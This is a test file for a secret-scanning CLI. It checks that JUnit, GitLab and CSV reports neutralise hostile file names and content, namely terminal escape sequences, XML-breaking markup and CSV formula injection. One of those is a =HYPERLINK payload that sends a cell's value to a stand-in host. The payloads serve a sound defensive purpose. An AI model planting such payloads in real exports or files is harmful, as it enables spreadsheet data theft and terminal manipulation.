import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Ajv } from 'ajv';
import { parse as parseCsv } from 'csv-parse/sync';
import { XMLParser } from 'fast-xml-parser';
import { SyntaxValidator } from 'fast-xml-validator';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField } from '../../src/reporters/csv.js';
import { printable, xmlText } from '../../src/reporters/escape.js';
import { runCli, runOnEndlessStdin, type CliResult } from '../helpers/cli.js';
import { ALPHA, githubToken, randomString, stripeKey } from '../helpers/tokens.js';
import { commit, git, makeGitRepo, writeTree } from '../helpers/tree.js';

/*
 * The JUnit, GitLab and CSV reports of one repository with hostile names and content, scanned as a
 * working tree and as history, redacted and not, each checked with a real parser:
 * - JUnit: fast-xml-validator (strict: no `]]>` in text, no `<` in attributes), fast-xml-parser,
 *   and Python's expat (a conforming XML 1.0 parser).
 * - CSV: csv-parse, strict (no relaxed quotes or column counts).
 * - GitLab: ajv against gitlab-secret-detection.schema.json beside this file. GitLab's official
 *   security report schemas are not published on npm and cannot be fetched from this machine, so
 *   that file is a transcription, not the official schema. It checks: version (15.x), scan.type
 *   (secret_detection), scan.analyzer and scan.scanner (id, name, version, vendor.name, url),
 *   scan.start_time and end_time (YYYY-MM-DDTHH:MM:SS), scan.status, scan.messages (level, value),
 *   and for each vulnerability id, category, name (at most 255 characters), description, severity
 *   (GitLab's six levels), solution, raw_source_code_extract, identifiers (type, name, value),
 *   links (URLs), and location: file, start_line, end_line and commit (sha required; author, date,
 *   message, nothing else).
 */

const allowed = stripeKey('sk_live', 1701);
const pat = githubToken('ghp', 1702);
const hostileToken = githubToken('ghp', 1703);
const password = `Xk9q${randomString(ALPHA.alnum, 14, 1704)}`;
const notUtf8Token = githubToken('ghp', 1705);
const SECRETS = [allowed, pat, hostileToken, password, notUtf8Token];

/** A name with a newline, an escape sequence and XML markup, and one that is not UTF-8. */
const HOSTILE_NAME = 'evil\n\u001b[2J<x>&]]>.env';
const NOT_UTF8 = Buffer.from([0xff, 0xfe, 0x2e, 0x65, 0x6e, 0x76]);

const FILES = {
  // The Stripe key is allowed inline: not reported, but on the quoted line, so masked too.
  'app.js': `const keys = ["${allowed}", "${pat}"]; // keyfence:allow stripe-secret-key\n`,
  [HOSTILE_NAME]: `TOKEN="${hostileToken}" <b>&amp;</b> ]]> \u001b[2J \u0007\u000b\u007f\u0085 \uffff \u202e\n`,
  // A spreadsheet formula, commas and quotes on the line, and a name a spreadsheet would run.
  '@SUM(1+1),"q".env': `=HYPERLINK("https://x.invalid/?a=1,b","click"), "quoted", password = "${password}"\n`,
};

const HISTORY_AUTHOR = 'Mal <b> & ]]> \u001b[31m';
const HISTORY_MESSAGE = 'add ]]> <x> & "q", =1+1 \u001b[31m';

/** Characters that must never be written raw (tab and newline are the reports' own). */
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
/** What XML 1.0 forbids in a document. */
const XML_FORBIDDEN =
  // eslint-disable-next-line no-control-regex -- finding forbidden characters is the point
  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

interface JsonFinding {
  ruleId: string;
  severity: string;
  path: string;
  line: number;
  column: number;
  endLine: number;
  secret: string;
  lineText: string;
  fingerprint: string;
  commit?: { sha: string; author: string; email: string; message: string; date: string };
}

const MODES = { tree: ['.'], history: ['--history'] } as const;
type Mode = keyof typeof MODES;
/** Each scan of the hostile repository: its mode, and whether secrets are redacted. */
const SCANS = [
  ['tree', true],
  ['tree', false],
  ['history', true],
  ['history', false],
] as const;
const FORMATS = ['junit', 'gitlab', 'csv', 'json'] as const;
type Format = (typeof FORMATS)[number];

let repo = '';
let clean = '';
/** Every run, by `${mode} ${format} ${redacted|shown}`. */
const runs = new Map<string, CliResult>();
const run = (mode: Mode | 'clean', format: Format, redact = true): CliResult => {
  const result = runs.get(`${mode} ${format} ${redact ? 'redacted' : 'shown'}`);
  if (!result) throw new Error(`no run of ${mode} ${format}`);
  return result;
};
const findings = (mode: Mode, redact = true): JsonFinding[] =>
  (JSON.parse(run(mode, 'json', redact).stdout) as { findings: JsonFinding[] }).findings;

beforeAll(async () => {
  repo = mkdtempSync(join(tmpdir(), 'keyfence-ci-reports-'));
  git(repo, 'init', '-q', '-b', 'main');
  writeTree(repo, FILES);
  writeFileSync(Buffer.concat([Buffer.from(`${repo}/`), NOT_UTF8]), `TOKEN="${notUtf8Token}"\n`);
  git(repo, 'add', '-A');
  git(repo, '-c', `user.name=${HISTORY_AUTHOR}`, 'commit', '-qm', HISTORY_MESSAGE);
  clean = mkdtempSync(join(tmpdir(), 'keyfence-ci-reports-'));
  git(clean, 'init', '-q', '-b', 'main');
  writeTree(clean, { 'app.js': 'const a = process.env.TOKEN;\n' });
  git(clean, 'add', '-A');
  git(clean, 'commit', '-qm', 'init');
  const plans = [
    ...(['tree', 'history'] as const).flatMap((mode) =>
      FORMATS.flatMap((format) => [
        { key: `${mode} ${format} redacted`, cwd: repo, args: [...MODES[mode], '-f', format] },
        { key: `${mode} ${format} shown`, cwd: repo, args: [...MODES[mode], '-f', format, '--no-redact'] },
      ]),
    ),
    ...FORMATS.map((format) => ({ key: `clean ${format} redacted`, cwd: clean, args: ['.', '-f', format] })),
  ];
  const results = await Promise.all(
    plans.map(({ cwd, args }) => runCli(['scan', ...args, '--no-config'], { cwd })),
  );
  plans.forEach(({ key }, index) => runs.set(key, results[index] as CliResult));
}, 60_000);

afterAll(() => {
  for (const dir of [repo, clean]) if (dir !== '') rmSync(dir, { recursive: true, force: true });
});

describe('the scans behind the reports', () => {
  it('find the same secrets in the working tree and the history, and nothing in the clean repository', () => {
    for (const mode of ['tree', 'history'] as const) {
      const found = findings(mode);
      expect(found.map((finding) => `${finding.ruleId} ${finding.path}`).sort(), mode).toEqual([
        'generic-password @SUM(1+1),"q".env',
        'github-pat \\xFF\\xFE.env',
        'github-pat app.js',
        `github-pat ${HOSTILE_NAME}`,
      ]);
      for (const format of FORMATS) {
        expect(run(mode, format).exitCode, `${mode} ${format}: ${run(mode, format).stderr}`).toBe(1);
        expect(run(mode, format, false).exitCode).toBe(1);
      }
    }
    for (const format of FORMATS) expect(run('clean', format).exitCode).toBe(0);
  });

  it.each(['junit', 'gitlab', 'csv'] as const)(
    'never show a secret in %s unless --no-redact, which shows each finding and the other secrets on its line',
    (format) => {
      for (const mode of ['tree', 'history'] as const) {
        // Redaction shows at most a prefix: a secret's tail in a report is a leak.
        const redacted = run(mode, format).stdout;
        for (const secret of SECRETS) {
          expect(redacted, `${mode}: ${secret.slice(0, 6)}`).not.toContain(secret);
          expect(redacted, `${mode}: ${secret.slice(0, 6)}`).not.toContain(secret.slice(-12));
        }
        // The checks above can see a leak: without redaction, every secret shows, the allowed key
        // in the quoted line (GitLab's report quotes no line).
        const shown = run(mode, format, false).stdout;
        for (const secret of format === 'gitlab' ? SECRETS.filter((secret) => secret !== allowed) : SECRETS)
          expect(shown, `${mode}: ${secret.slice(0, 6)}`).toContain(secret.slice(-12));
      }
    },
  );
});

/** Text as the JUnit report shows it: visible escapes for control characters and what XML forbids. */
const xmlShown = (text: string): string =>
  printable(text).replace(/[\ufffe\uffff]/g, (unit) => `\\u${unit.charCodeAt(0).toString(16)}`);

interface TestCase {
  classname: string;
  name: string;
  file?: string;
  time: string;
  failure?: { message: string; type: string; '#text': string };
  error?: { message: string; type: string };
}
interface Suite {
  name: string;
  tests: string;
  failures: string;
  errors: string;
  skipped: string;
  time: string;
  timestamp: string;
  testcase: TestCase[];
  properties: { property: { name: string; value: string }[] };
  'system-out': string;
}

/** Strict XML syntax: a declaration, no `]]>` in text, no raw `<` in an attribute; throws on an error. */
const validateXml = (xml: string): true =>
  SyntaxValidator.validate(xml, {
    xmlDeclaraion: { optional: false },
    invalidCharSequence: { tagValue: true, attrLt: true },
  });

/** A JUnit report, checked by two XML parsers and for characters XML forbids; its suites. */
function parseJunit(xml: string): { root: Record<string, string>; suites: Suite[] } {
  expect(validateXml(xml)).toBe(true);
  expect(xml).not.toMatch(XML_FORBIDDEN);
  expect(xml).not.toMatch(RAW_CONTROL);
  const expat = spawnSync(
    'python3',
    ['-c', 'import sys, xml.dom.minidom; xml.dom.minidom.parseString(sys.stdin.buffer.read())'],
    { input: xml, encoding: 'utf8' },
  );
  expect(expat.status, expat.stderr).toBe(0);
  const parsed = new XMLParser({
    ignoreAttributes: false,
    attributeNamePrefix: '',
    isArray: (name) => ['testsuite', 'testcase', 'property'].includes(name),
  }).parse(xml) as { testsuites: Record<string, string> & { testsuite: Suite[] } };
  return { root: parsed.testsuites, suites: parsed.testsuites.testsuite };
}

describe('the JUnit report', () => {
  it.each(SCANS)(
    'of a %s scan (redacted: %s) parses, has consistent counts and one failing testcase per finding',
    (mode, redact) => {
      const { root, suites } = parseJunit(run(mode, 'junit', redact).stdout);
      expect(suites).toHaveLength(1);
      const suite = suites[0] as Suite;
      const cases = suite.testcase;
      const expected = findings(mode, redact);
      for (const counts of [root, suite]) {
        expect(counts.tests).toBe(String(cases.length));
        expect(counts.failures).toBe(String(cases.filter((test) => test.failure).length));
        expect(counts.errors).toBe(String(cases.filter((test) => test.error).length));
        expect(counts.skipped).toBe('0');
        expect(Number(counts.time)).toBeGreaterThanOrEqual(0);
      }
      expect(suite.timestamp).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}$/);
      expect(cases).toHaveLength(expected.length);
      expect(new Set(cases.map((test) => test.name)).size).toBe(cases.length);
      for (const finding of expected) {
        const test = cases.find(
          (candidate) => candidate.file === printable(finding.path) && candidate.failure !== undefined,
        );
        expect(test?.classname).toBe(`keyfence.${finding.ruleId}`);
        expect(test?.failure?.type).toBe(finding.severity);
        expect(test?.failure?.message).toBe(
          `${finding.ruleId} at ${printable(finding.path)}:${finding.line}: ${finding.secret}`,
        );
        const body = (test?.failure?.['#text'] ?? '').split('\n');
        expect(body).toContain(`secret: ${finding.secret}`);
        expect(body).toContain(`ignore: ${finding.fingerprint}`);
        expect(body).toContain(`line: ${xmlShown(finding.lineText.replace(/\r?\n$/, ''))}`);
        const commit = finding.commit;
        if (mode === 'history' && commit)
          expect(body).toContain(
            printable(
              `commit ${commit.sha} ${commit.author} <${commit.email}> ${commit.date} ${commit.message}`,
            ),
          );
        else expect(body.some((line) => line.startsWith('commit '))).toBe(false);
      }
      expect(suite.properties.property).toContainEqual({ name: 'redacted', value: String(redact) });
    },
  );

  it('keeps hostile names and text as visible escapes, in the commit too', () => {
    const { suites } = parseJunit(run('history', 'junit').stdout);
    const hostile = suites[0]?.testcase.find((test) => test.file?.startsWith('evil'));
    expect(hostile?.file).toBe('evil\\n\\x1b[2J<x>&]]>.env');
    const body = hostile?.failure?.['#text'] ?? '';
    expect(body).toMatch(
      /^line: TOKEN="ghp_\*+" <b>&amp;<\/b> \]\]> \\x1b\[2J \\x07\\x0b\\x7f\\x85 \\uffff \\u202e$/m,
    );
    expect(body).toContain('Mal b & ]] \\x1b[31m <test@example.invalid>');
    expect(body).toContain('add ]]> <x> & "q", =1+1 \\x1b[31m');
    expect(suites[0]?.testcase.some((test) => test.file === '\\xFF\\xFE.env')).toBe(true);
  });

  it('of a clean scan holds one passing testcase, so that it is never empty', () => {
    const { root, suites } = parseJunit(run('clean', 'junit').stdout);
    expect(root).toMatchObject({ tests: '1', failures: '0', errors: '0', skipped: '0' });
    expect(suites[0]?.testcase).toEqual([{ classname: 'keyfence', name: 'no secrets found', time: '0' }]);
    expect(suites[0]?.['system-out']).toMatch(/^scanned 1 file \(\d+ B\)/);
  });
});

interface GitlabReport {
  version: string;
  scan: { type: string; status: string; analyzer: { id: string; version: string } };
  vulnerabilities: {
    id: string;
    severity: string;
    description: string;
    raw_source_code_extract?: string;
    location: {
      file: string;
      start_line: number;
      end_line: number;
      commit: { sha: string; author?: string; message?: string; date?: string };
    };
    identifiers: { type: string; value: string }[];
  }[];
}

const schema = JSON.parse(
  readFileSync(new URL('gitlab-secret-detection.schema.json', import.meta.url), 'utf8'),
) as object;
const validateGitlab = new Ajv({ allErrors: true, strict: true }).compile(schema);

function parseGitlab(text: string): GitlabReport {
  const report = JSON.parse(text) as unknown;
  expect(validateGitlab(report), JSON.stringify(validateGitlab.errors)).toBe(true);
  return report as GitlabReport;
}

const GITLAB_SEVERITY: Record<string, string> = {
  critical: 'Critical',
  high: 'High',
  medium: 'Medium',
  low: 'Low',
};

describe('the GitLab secret detection report', () => {
  it.each(['tree', 'history'] as const)(
    'of a %s scan validates, maps each finding, and keeps its ids with or without redaction',
    (mode) => {
      const redacted = parseGitlab(run(mode, 'gitlab').stdout);
      const shown = parseGitlab(run(mode, 'gitlab', false).stdout);
      const expected = findings(mode);
      const secrets = findings(mode, false).map((finding) => finding.secret);
      expect(redacted.scan).toMatchObject({
        type: 'secret_detection',
        status: 'success',
        analyzer: { id: 'keyfence' },
      });
      expect(redacted.vulnerabilities).toHaveLength(expected.length);
      expect(new Set(redacted.vulnerabilities.map((vulnerability) => vulnerability.id)).size).toBe(
        expected.length,
      );
      expect(shown.vulnerabilities.map((vulnerability) => vulnerability.id)).toEqual(
        redacted.vulnerabilities.map((vulnerability) => vulnerability.id),
      );
      expected.forEach((finding, index) => {
        const vulnerability = redacted.vulnerabilities[index];
        expect(vulnerability?.severity).toBe(GITLAB_SEVERITY[finding.severity]);
        expect(vulnerability?.identifiers[0]).toMatchObject({
          type: 'keyfence_rule_id',
          value: finding.ruleId,
        });
        expect(vulnerability?.location).toMatchObject({
          file: finding.path,
          start_line: finding.line,
          end_line: finding.endLine,
        });
        expect(vulnerability?.raw_source_code_extract).toBeUndefined();
        expect(shown.vulnerabilities[index]?.raw_source_code_extract).toBe(secrets[index]);
        const commit = finding.commit;
        expect(vulnerability?.location.commit).toEqual(
          mode === 'history' && commit
            ? {
                sha: commit.sha,
                author: `${commit.author} <${commit.email}>`,
                date: commit.date,
                message: HISTORY_MESSAGE,
              }
            : { sha: '0000000' },
        );
      });
      // Markdown: the hostile name sits in a code span, its markup inert.
      const hostile = redacted.vulnerabilities.find(
        (vulnerability) => vulnerability.location.file === HOSTILE_NAME,
      );
      expect(hostile?.description).toContain('`evil\\n\\x1b[2J<x>&]]>.env:1`');
    },
  );

  it('of a clean scan validates with no vulnerabilities', () => {
    expect(parseGitlab(run('clean', 'gitlab').stdout).vulnerabilities).toEqual([]);
  });
});

const CSV_COLUMNS = [
  'rule_id',
  'title',
  'severity',
  'path',
  'line',
  'column',
  'end_line',
  'end_column',
  'secret',
  'line_text',
  'encoding',
  'fingerprint',
  'origin',
  'commit',
  'author',
  'email',
  'date',
  'message',
  'verification',
  'verification_reason',
];

/** A CSV report parsed strictly: its header and its records as objects. */
function parseCsvReport(text: string): Record<string, string>[] {
  const rows: string[][] = parseCsv(text, { relax_quotes: false, relax_column_count: false });
  expect(rows[0]).toEqual(CSV_COLUMNS);
  // One record per line: a line break in a name or a line is shown as `\n`, never written.
  expect(text.split('\r\n')).toHaveLength(rows.length + 1);
  expect(text.replace(/\r\n/g, '\n')).not.toMatch(RAW_CONTROL);
  return rows
    .slice(1)
    .map((row) => Object.fromEntries(CSV_COLUMNS.map((name, index) => [name, row[index] ?? ''])));
}

/** What a cell from scanned text holds: visible escapes, and a `'` before a formula. */
const cell = (text: string): string => printable(/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);

describe('the CSV report', () => {
  it.each(SCANS)(
    'of a %s scan (redacted: %s) has a row per finding that parses back to its values',
    (mode, redact) => {
      const records = parseCsvReport(run(mode, 'csv', redact).stdout);
      const expected = findings(mode, redact);
      expect(records).toHaveLength(expected.length);
      expected.forEach((finding, index) => {
        expect(records[index]).toMatchObject({
          rule_id: finding.ruleId,
          severity: finding.severity,
          path: cell(finding.path),
          line: String(finding.line),
          column: String(finding.column),
          end_line: String(finding.endLine),
          secret: cell(finding.secret),
          line_text: cell(finding.lineText.replace(/\r?\n$/, '')),
          fingerprint: finding.fingerprint,
          commit: finding.commit?.sha ?? '',
          author: cell(finding.commit?.author ?? ''),
          message: cell(finding.commit?.message ?? ''),
        });
      });
      for (const record of records)
        for (const value of Object.values(record)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    },
  );

  it('writes a formula, commas and quotes from a scanned line as one inert cell', () => {
    const records = parseCsvReport(run('tree', 'csv').stdout);
    const formula = records.find((record) => record.rule_id === 'generic-password');
    expect(formula?.path).toBe('\'@SUM(1+1),"q".env');
    expect(
      formula?.line_text?.startsWith(`'=HYPERLINK("https://x.invalid/?a=1,b","click"), "quoted", `),
    ).toBe(true);
    const history = parseCsvReport(run('history', 'csv').stdout);
    expect(history[0]?.message).toBe('add ]]> <x> & "q", =1+1 \\x1b[31m');
  });

  it('of a clean scan is the header alone', () => {
    expect(parseCsvReport(run('clean', 'csv').stdout)).toEqual([]);
  });

  it('guards a formula after a ";" too, where a spreadsheet with ";" as its list separator starts a cell', async () => {
    const semicolonPassword = `Xk9q${randomString(ALPHA.alnum, 14, 1706)}`;
    const after = ` x;=HYPERLINK("https://x.invalid/?"&B2,"click");"@SUM(1);+1`;
    const semicolons = makeGitRepo({ 'a;=1+1.env': `password = "${semicolonPassword}";${after}\n` });
    commit(semicolons, 'add');
    for (const mode of [['.'], ['--history']]) {
      const result = await runCli(['scan', ...mode, '-f', 'csv', '--no-config'], { cwd: semicolons });
      expect(result.exitCode, result.stderr).toBe(1);
      // Read as Excel reads it with ";" as the separator: every ";" starts a cell, a quote only at
      // a cell's start (the cell's text then starts after it).
      const cells = result.stdout.split('\r\n').flatMap((line) => line.split(';').slice(1));
      expect(cells.length).toBeGreaterThan(0);
      for (const cell of cells) expect(cell.replace(/^"+/, '')).not.toMatch(/^[=+\-@\t\r]/);
      // Read with commas, the values are as written but for the `'` after each such ";".
      const [record] = parseCsvReport(result.stdout);
      expect(record?.path).toBe("a;'=1+1.env");
      expect(record?.line_text?.startsWith(`password = "${semicolonPassword.slice(0, 4)}**`)).toBe(true);
      expect(
        record?.line_text?.endsWith(` x;'=HYPERLINK("https://x.invalid/?"&B2,"click");'"@SUM(1);'+1`),
      ).toBe(true);
    }
  });
});

describe('the escapes behind JUnit and CSV', () => {
  const nasty = 'a\u0000b\u0001\u001b[1m\udfff\ud800\ud83d\ude00\ufffe\uffff\t<&>"\']]>';

  it('leave nothing XML 1.0 forbids and keep a valid surrogate pair', () => {
    const escaped = xmlText(nasty);
    expect(escaped).toBe(
      'a\\x00b\\x01\\x1b[1m\\udfff\\ud800\ud83d\ude00\\ufffe\\uffff&#9;&lt;&amp;&gt;&quot;&apos;]]&gt;',
    );
    expect(validateXml(`<?xml version="1.0"?>\n<a b="${escaped}">${escaped}</a>`)).toBe(true);
  });

  it('quote CSV fields and neutralise formulas', () => {
    expect(['=1+1', '+1', '-1', '@A1', '\tx', '\rx', 'a,b', 'say "hi"', 'a\nb', 7].map(csvField)).toEqual([
      "'=1+1",
      "'+1",
      "'-1",
      "'@A1",
      "'\tx",
      "'\\rx",
      '"a,b"',
      '"say ""hi"""',
      'a\\nb',
      '7',
    ]);
  });
});

describe('a scan stopped by --timeout', () => {
  /** Runs a scan of standard input that never ends, stopped after 100 ms; its exit code and report. */
  const stopped = (format: 'junit' | 'gitlab'): Promise<CliResult> =>
    runOnEndlessStdin(['scan', '-', '-f', format, '--timeout', '100ms', '--no-config'], {
      cwd: clean,
      first: `TOKEN="${pat}"\n`,
    });

  it('is an error testcase in JUnit and a failed scan in the GitLab report, never a pass', async () => {
    const [junit, gitlab] = await Promise.all([stopped('junit'), stopped('gitlab')]);
    expect([junit.exitCode, gitlab.exitCode]).toEqual([2, 2]);
    const { root, suites } = parseJunit(junit.stdout);
    expect(root).toMatchObject({ errors: '1', tests: String(suites[0]?.testcase.length) });
    expect(suites[0]?.testcase.find((test) => test.error)).toMatchObject({
      classname: 'keyfence',
      name: 'scan complete',
      error: {
        type: 'incomplete',
        message: expect.stringMatching(/^scan incomplete: .*--timeout 100ms/) as string,
      },
    });
    expect(suites[0]?.testcase.some((test) => test.name === 'no secrets found')).toBe(false);
    const report = parseGitlab(gitlab.stdout);
    expect(report.scan.status).toBe('failure');
  });
});
